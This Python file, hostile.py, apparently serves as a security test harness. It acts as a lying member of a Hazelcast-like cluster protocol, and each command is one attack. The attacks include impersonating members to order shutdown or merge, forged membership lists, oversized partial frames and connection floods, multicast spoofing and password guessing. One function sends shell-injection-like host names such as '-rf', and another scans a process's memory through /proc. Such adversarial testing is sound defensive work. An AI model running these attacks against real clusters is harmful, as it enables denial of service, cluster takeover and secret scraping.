# SPDX-License-Identifier: Apache-2.0
"""A member that lies: hostile.py VERB ARGUMENT... Each verb is one attack; it prints what it did and what became of it."""
import os
import selectors
import socket
import struct
import sys
import threading
import time

import wire
from wire import Conn, Identity, NULL, address, dial, finalize, handshake, join, members_update, obj, operation, response

GROUP, PORT = "224.2.2.4", 2904


def say(*words):
    print(*words, flush=True)


def listen(host, port):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((host, port))
    s.listen(1024)
    return s


def group(own):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
    return s


def shout(s, cls, body):
    s.sendto(wire.datagram(cls, body), (GROUP, PORT))


# --- as the master of whoever comes ---
def let_in(me, others=(), version=2, hold=False):
    """Waits for a joiner at our address: (connection, its address and uuid). Finalized with us, it and the others, unless hold."""
    listener = listen(*me.address)
    say("ready")
    while True:
        c = Conn(listener.accept()[0])
        c.send(b"HZC")
        hello = c.wait((0, 5), 5)
        if hello is None:
            continue
        hello.options()
        c.send(handshake(me, hello.address, False))
        guest = Identity(*hello.address, uuid=hello.uuid, line=me.line, joiner=me.joiner)
        while (m := c.next(3)) is not None:
            if m.kind == (0, wire.WHOIS_MASTER):
                c.send(operation(me, wire.MASTER_RESPONSE, address(me.address)))
            if m.kind == (0, wire.JOIN_REQUEST):
                if not hold:
                    c.send(finalize(me, guest.uuid, [me.info(), guest.info(), *[o.info() for o in others]], version))
                    c.wait((-1, 0))
                return c, guest, listener


def tcp(host, **more):
    return Identity(host, joiner="tcp-ip", **more)


def stay(c, me, guest, version, seconds):
    """Heartbeats until it is over; False when the connection went."""
    until = time.monotonic() + seconds
    while time.monotonic() < until and c.open:
        c.send(wire.heartbeat(me, me.address, version, guest.uuid))
        c.wait((0, 99), 1)
    return c.open


def twice(own, rounds="40"):
    """The list names one member twice, then not at all, and so on."""
    me = tcp(own)
    c, guest, _ = let_in(me)
    version = 2
    for i in range(int(rounds)):
        x = tcp(own, port=7000 + i, attributes=[("k", "v" * (40 * i + 20))])
        for infos in ([x], [x, x], []):
            version += 1
            c.send(members_update(me, guest.uuid, [me.info(), guest.info(), *[o.info() for o in infos]], version))
        c.wait((0, 99), 0.02)
    say("done", "open" if stay(c, me, guest, version, 1) else "closed")
    stay(c, me, guest, version, 60)


def hold(own):
    """Names itself as master and never lets anybody in."""
    c, _, listener = let_in(tcp(own), hold=True)
    say("asked")
    while c.open:
        c.wait((0, 99), 1)
    listener.close()


def mute(own):
    """Says once to everybody that it is the master, and nothing any more."""
    me = tcp(own)
    listener = listen(*me.address)
    kept = []
    say("ready")
    while True:
        c = Conn(listener.accept()[0])
        kept.append(c)
        c.send(b"HZC")
        hello = c.wait((0, 5), 5)
        if hello is None:
            continue
        hello.options()
        c.send(handshake(me, hello.address, False))
        if c.wait((0, wire.WHOIS_MASTER), 3) is None:
            continue
        c.send(operation(me, wire.MASTER_RESPONSE, address(me.address)))
        if c.wait((0, wire.JOIN_REQUEST), 3) is not None:
            say("asked")


def lists(own, what):
    """A list that cannot be meant for its reader: without (it), alone (its master), last (version 2^31-1), future (heartbeats)."""
    me = tcp(own)
    c, guest, listener = let_in(me, hold=what in ("without", "alone"))
    if what == "without":
        c.send(finalize(me, guest.uuid, [me.info(), tcp(own, port=7001).info()], 2))
    elif what == "alone":
        c.send(finalize(me, guest.uuid, [me.info()], 2))
    elif what == "last":
        c.send(members_update(me, guest.uuid, [me.info(), guest.info()], 2**31 - 1))
        c.send(members_update(me, guest.uuid, [me.info(), guest.info(), tcp(own, port=7001).info()], 3))
    elif what == "future":
        for ahead in (2**62, 2**63 - 1, -2**63, 10**15):
            c.send(wire.heartbeat(me, me.address, 2, guest.uuid, ahead))
        c.send(members_update(me, guest.uuid, [me.info(), guest.info()], 3))
    say("done")
    stay(c, me, guest, 2, 90)
    say("over", "open" if c.open else "closed")


def elsewhere(own, master, seconds):
    """Every joiner is sent to a master that nobody reaches; how often does one ask, how many segments come?"""
    me, host_port = tcp(own), master.split(":")
    listener = listen(*me.address)
    sel = selectors.DefaultSelector()
    sel.register(listener, selectors.EVENT_READ)
    conns, asked, accepted, until = {}, 0, 0, None
    say("ready")
    while until is None or time.monotonic() < until:
        for key, _ in sel.select(0.2):
            if key.fileobj is listener:
                c = Conn(listener.accept()[0])
                conns[c.sock.fileno()] = c
                sel.register(c.sock, selectors.EVENT_READ)
                accepted += 1
                until = until or time.monotonic() + float(seconds)
                c.send(b"HZC")
                continue
            c = conns[key.fileobj.fileno()]
            if not c.read(0):
                sel.unregister(c.sock)
                c.close()
                continue
            while (m := c.next(0)) is not None:
                if m.kind == (0, 5):
                    m.options()
                    c.send(handshake(me, m.address, False))
                elif m.kind in ((0, wire.WHOIS_MASTER), (0, wire.JOIN_REQUEST)):
                    asked += 1
                    c.send(operation(me, wire.MASTER_RESPONSE, address((host_port[0], int(host_port[1])))))
    say("asked", asked, "accepted", accepted)


# --- as a stranger who knocks ---
def shut(host, own):
    """Joins and orders the node to end (ShutdownNodeOp)."""
    me = Identity(own)
    c, members = join(host, 6900, me)
    say("joined", members is not None)
    c.send(operation(me, wire.SHUTDOWN_NODE))
    c.wait((0, 99), 2)
    say("done", "open" if c.open else "closed")


def impersonate(host, uuid, claimed, own, order, port="6900", cover="no"):
    """Says that it is the member UUID at CLAIMED, and gives an order: merge, shutdown, suspect, heartbeat, none."""
    me = Identity(claimed, int(port), uuid=bytes.fromhex(uuid.replace("-", "")))
    options = (("mc.node", "1"),) if cover == "node" else ()
    c, hello = dial(host, 6900, me, options)
    say("hello", hello is not None and "mc.refused" not in hello.said)
    if order == "merge":
        c.send(operation(me, wire.MERGE_CLUSTERS, address((own, 7777)), call=1))
    elif order == "shutdown":
        c.send(operation(me, wire.SHUTDOWN_NODE))
    elif order == "suspect":
        c.send(operation(me, wire.JOIN_REQUEST, obj(0, 27, Identity(claimed, int(port)).join_request())))
    until = time.monotonic() + 3
    while c.open and time.monotonic() < until:
        c.wait((0, 99), 0.2)
    say("done", "open" if c.open else "closed")


def crowd(host, uuid, claimed, count, half):
    """COUNT connections that all say that they are the member UUID at CLAIMED, with HALF bytes of a frame of 15 MiB each."""
    me = Identity(*claimed.split(":")[:1], port=int(claimed.split(":")[1]), uuid=bytes.fromhex(uuid.replace("-", "")))
    part = b"\4" + struct.pack(">Hii", 0x91, -1, 15 << 20) + bytes(int(half))
    kept = []
    for _ in range(int(count)):
        c, hello = dial(host, 6900, me)
        if hello is not None:
            kept.append(c)
    for c in kept:
        c.sock.settimeout(2)
        c.send(part)
    time.sleep(1)
    for c in kept:
        while c.open and c.read(0):
            c.got = b""
    say("ready", len(kept), "open", sum(c.open for c in kept))
    time.sleep(60)


def halves(host, own, count, half):
    """COUNT members of one host, with HALF bytes of a frame of 15 MiB each."""
    part = b"\4" + struct.pack(">Hii", 0x91, -1, 15 << 20) + bytes(int(half))
    kept = []
    for i in range(int(count)):
        c, members = join(host, 6900, Identity(own, 10000 + i))
        if members is not None:
            kept.append(c)
    members = len(kept)
    for c in kept:
        while c.read(0):
            c.got = b""
        c.sock.settimeout(2)
        c.send(part)
    time.sleep(1)
    say("ready", members, "open", sum(c.open for c in kept))
    time.sleep(60)


def refuse(host, own, claimed, seconds="5"):
    """Dials one that looks for a cluster, says that it is at CLAIMED, and refuses it, in every way that there is."""
    host_port = claimed.split(":")
    until, said = time.monotonic() + float(seconds), 0
    while time.monotonic() < until:
        try:
            c, hello = dial(host, 6900, Identity(host_port[0], int(host_port[1])))
        except OSError:
            time.sleep(0.05)
            continue
        me = Identity(own)
        for op, body in ((wire.CONFIG_MISMATCH, wire.s("Incompatible joiners! expected: a, found: b")), (wire.BEFORE_JOIN_FAILURE, wire.s("no")),
                         (wire.AUTHENTICATION_FAILURE, b""), (wire.CLUSTER_MISMATCH, b"")):
            said += c.send(operation(me, op, body))
        c.wait((0, 99), 0.2)
        c.close()
    say("done", said)


def beats(host, own, count):
    """COUNT heartbeats of a stranger who thinks that it is a member."""
    me = Identity(own)
    c, hello = dial(host, 6900, me)
    for i in range(int(count)):
        c.send(wire.heartbeat(me, me.address, 5, hello.uuid))
        if i % 100 == 99:
            while c.read(0):
                c.got = b""
    c.wait((0, 99), 1)
    say("done", "open" if c.open else "closed")


def odd(own):
    """Clusters and masters whose hosts are no hosts."""
    s = group(own)
    for host in ("-rf", "a b", 'a"b', "a'b", "a\nb", "\x1b[31m", "", "a\x7fb", "a" * 300):
        for name in ("other", "development"):
            me = Identity(host, name=name)
            for cls, body in ((26, me.join_message()), (27, me.join_request()), (31, me.split_brain(data=1))):
                shout(s, cls, body)
    say("done")


def thousand(host, own):
    """Asks to merge: "I have a thousand data members"."""
    me = Identity(own, 7777)
    c, hello = dial(host, 6900, me)
    c.send(operation(me, wire.SPLIT_BRAIN, obj(0, 31, me.split_brain(members=[(own, 7777)], data=1000)), call=7))
    m = c.wait((-1, 0), 2)
    say("done", "answered" if m else "silent")
    c.wait((0, 99), 2)


def guests(host, own, count, half="0", port="6900", quiet=""):
    """COUNT connections with a handshake of their own each, and HALF bytes of a frame of 1 MiB."""
    kept, refused = [], 0
    part = b""
    if int(half):
        part = b"\4" + struct.pack(">Hii", 0x91, -1, (1 << 20) - 64) + bytes(int(half))
    for i in range(int(count)):
        me = Identity(own, 10000 + i % 50000)
        try:
            c = Conn(socket.create_connection((host, int(port)), timeout=5))
            c.sock.settimeout(5)
            c.send(b"HZC" + handshake(me, (host, int(port)), True, () if quiet == "java" else (("mc.node", "1"),)))
            kept.append(c)
        except OSError:
            refused += 1
    for c in kept if part else []:
        c.sock.setblocking(False)
        left = part
        try:
            while left:
                left = left[c.sock.send(left):]
        except OSError:
            pass
    say("ready", len(kept), "refused", refused)
    while True:
        time.sleep(0.5)
        alive = 0
        for c in kept:
            while c.open and c.read(0):
                c.got = b""
            alive += c.open
        say("alive", alive)


def waiters(host, own, count):
    """COUNT who ask to be let in and are gone."""
    for i in range(int(count)):
        me = Identity(own, 10000 + i)
        c = Conn(socket.create_connection((host, 6900), timeout=5))
        c.send(b"HZC" + handshake(me, (host, 6900)) + operation(me, wire.JOIN_REQUEST, obj(0, 27, me.join_request())))
        if c.wait((0, 5), 2) is None:
            say("no answer at", i)
            break
        c.wait((0, wire.MASTER_RESPONSE), 2)
        c.close()
    say("done")


def hoard(host, own, count, size):
    """COUNT members, each with SIZE bytes of operations for those who join later; then others that fill what is left."""
    kept, size = [], int(size)
    plain = wire.i8(0) + wire.i2(0x21) + wire.i2(-1) + wire.i8(-1) + wire.i8(2**63 - 1)
    for some in (size, size // 8, size // 64, size // 512, 64):
        pre = wire.on_join(obj(-99, 1, plain + bytes(some)))
        for _ in range(int(count)):
            c, members = join(host, 6900, Identity(own, 10000 + len(kept)), options=(), pre=pre)
            if members is None:
                break
            kept.append(c)
    say("ready", len(kept))
    while True:
        for c in kept:
            c.wait((0, 99), 0.01)


# --- on the group ---
def guess(own, seconds):
    """Announces a cluster as fast as it can; whoever dials is answered with a guess at the password. How many are refused?"""
    me = Identity(own, 7777)
    listener = listen(*me.address)
    s, body = group(own), me.split_brain(data=1)
    state = {"datagrams": 0, "over": False}

    def announce():
        while not state["over"]:
            shout(s, 31, body)
            state["datagrams"] += 1
            time.sleep(0.0003)
    threading.Thread(target=announce, daemon=True).start()
    listener.settimeout(0.5)
    until, dials, wrong, quiet = time.monotonic() + float(seconds), 0, 0, 0
    say("ready")
    while time.monotonic() < until:
        try:
            c = Conn(listener.accept()[0])
        except OSError:
            continue
        dials += 1
        c.send(b"HZC")
        hello = c.wait((0, 5), 1)
        if hello is None or "mc.pake" not in hello.options():
            c.close()
            continue
        c.send(handshake(me, hello.address, False, (("mc.node", "1"), ("mc.pake", os.urandom(128).hex()))))
        m = c.wait((0, 5), 1)
        wrong += m is not None and m.options().get("mc.refused") is not None
        quiet += m is None
        c.close()
    state["over"] = True
    say("datagrams", state["datagrams"], "dials", dials, "guesses", wrong + quiet)


def lure(own, target, count, claimed=None):
    """COUNT datagrams, each naming another port of TARGET as a master's."""
    s = group(own)
    for i in range(int(count)):
        me = Identity(target, 10000 + i)
        shout(s, 31, me.split_brain(data=1))
        if i % 50 == 49:
            time.sleep(0.005)
    say("done")


def teach(host, own, target, count):
    """COUNT MasterResponses of a stranger, each with another address to be remembered."""
    me = Identity(own, 7777)
    c, _ = dial(host, 6900, me)
    for i in range(int(count)):
        c.send(operation(me, wire.MASTER_RESPONSE, address((target, 10000 + i))))
    c.wait((0, 99), 1)
    say("done", "open" if c.open else "closed")


def announce(own, seconds, refuse="no"):
    """A master of the same name that has no password: JoinMessages, and a listener that answers every handshake."""
    me = Identity(own, 7777)
    listener = listen(*me.address)
    s = group(own)
    until = time.monotonic() + float(seconds)
    listener.settimeout(0.02)
    dials, kept = 0, []
    say("ready")
    while time.monotonic() < until:
        shout(s, 26, me.join_message())
        try:
            c = Conn(listener.accept()[0])
        except OSError:
            continue
        dials += 1
        kept.append(c)
        c.send(b"HZC")
        hello = c.wait((0, 5), 1)
        if hello is not None:
            said = hello.options()
            c.send(handshake(me, hello.address, False, (("mc.node", "1"),) if refuse == "no" else (("mc.node", "1"), ("mc.refused", refuse))))
    say("dials", dials)


def names(own, count, first="0"):
    """COUNT clusters that do not exist."""
    s = group(own)
    for i in range(int(first), int(first) + int(count)):
        shout(s, 26, Identity("10.66.%d.%d" % (i // 250 % 250, i % 250), 5701, name="none-%d" % i).join_message())
        if i % 20 == 19:
            time.sleep(0.002)
    say("done")


# --- on the same host, as root ---
def memory(pid, text):
    """How often a text stands in a process's memory."""
    found, seen = 0, 0
    with open("/proc/%s/maps" % pid) as maps, open("/proc/%s/mem" % pid, "rb", 0) as mem:
        for line in maps:
            span, mode = line.split()[:2]
            if "r" not in mode or "[v" in line:
                continue
            first, last = (int(x, 16) for x in span.split("-"))
            if last - first > 1 << 30:  # of a sanitizer
                continue
            mem.seek(first)
            while first < last and (some := mem.read(min(1 << 24, last - first))):
                found += some.count(text.encode())
                first += len(some)
                seen += len(some)
    say("found", found, "in", seen)


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
